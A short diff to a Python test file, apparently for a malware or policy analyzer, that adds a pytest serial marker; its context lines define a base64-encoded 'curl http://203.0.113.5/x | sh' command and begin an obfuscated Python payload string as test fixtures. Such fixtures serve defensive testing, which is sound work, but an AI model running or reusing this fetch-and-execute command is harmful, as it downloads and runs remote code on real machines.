@@ -22,12 +22,17 @@ import os
 import time
 from pathlib import Path
 
+import pytest
+
 import redteam_kit as kit
 from analyzer import api
 from analyzer.engine import collect as collect_module
 from analyzer.engine import configs, isolate, parse
 from analyzer.model import Decision
 from analyzer.policy import load_policy
+
+# its limits are seconds of wall time: run alone (make test's second run)
+pytestmark = pytest.mark.serial
 
 COMMAND = base64.b64encode(b"curl http://203.0.113.5/x | sh").decode()
 PAYLOAD = ("import os, base64, urllib.request\n\n"
